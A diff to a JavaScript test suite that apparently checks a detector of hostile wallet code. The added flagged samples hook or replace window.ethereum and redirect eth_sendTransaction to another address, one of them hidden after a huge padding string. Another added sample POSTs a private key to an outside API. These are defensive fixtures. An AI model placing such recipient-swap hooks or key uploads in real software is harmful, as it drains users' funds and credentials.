@@ -39,10 +39,34 @@ describeVerdicts("WEB-02", {
         if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
         return request.call(this, call);
       };`,
+    "a recipient, far down in a large file": `
+      exports.table = ${JSON.stringify("word ".repeat(20_000))};
+      const request = window.ethereum.request;
+      window.ethereum.request = function (call) {
+        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
+        return request.call(this, call);
+      };`,
+    "a wallet of ours in the place of another": `
+      const other = window.ethereum;
+      window.ethereum = { ...other, request: (call) => {
+        if (call.method === "eth_sendTransaction") call.params[0].to = "${address("c")}";
+        return other.request(call);
+      } };`,
   },
   passes: {
     "a connector": `exports.connect = () => window.ethereum.request({ method: "eth_requestAccounts" });`,
     "a signer": `exports.send = (tx) => window.ethereum.request({ method: "eth_sendTransaction", params: [tx] });`,
+    "a wallet that announces itself": `
+      exports.Sdk = class {
+        constructor(provider, other) { this.provider = provider; this.other = other; window.ethereum = provider; }
+        async change(to) { this.active = this.other; window.ethereum = this.other; return this.other.request({ method: "eth_requestAccounts" }); }
+        end() { window.ethereum = undefined; }
+      };`,
+    "a wallet whose calls are counted": `
+      exports.watch = (note) => {
+        const request = window.ethereum.request;
+        window.ethereum.request = function (call) { note(call.method); return request.call(this, call); };
+      };`,
     constants: `exports.zero = "${address("0")}";`,
   },
 });
@@ -154,6 +178,18 @@ describeVerdicts("WEB-05", {
     "an address of the caller": `exports.send = (privateKey, rpc, tx) => fetch(rpc, { method: "POST", body: tx });`,
     "a derivation": `exports.seed = (mnemonic) => require("crypto").pbkdf2Sync(mnemonic, "mnemonic", 2048, 64, "sha512");`,
     "a price": `exports.price = (privateKey) => fetch("${url}").then((r) => r.json());`,
+    "a service that is told by its secret key who asks": `
+      class Service {
+        constructor(secretKey, privateKey) { this.secretKey = secretKey; this.privateKey = privateKey; }
+        log(events) {
+          return fetch("https://api.service.example/v1/log", {
+            method: "POST",
+            headers: { "x-api-key": this.secretKey },
+            body: JSON.stringify({ events, access: this.privateKey }),
+          });
+        }
+      }
+      module.exports = Service;`,
     "an exchange that is sent signatures": `
       const CryptoJS = require("crypto-js"), { createHmac } = require("crypto");
       exports.order = ({ key, secret_key }, query) =>
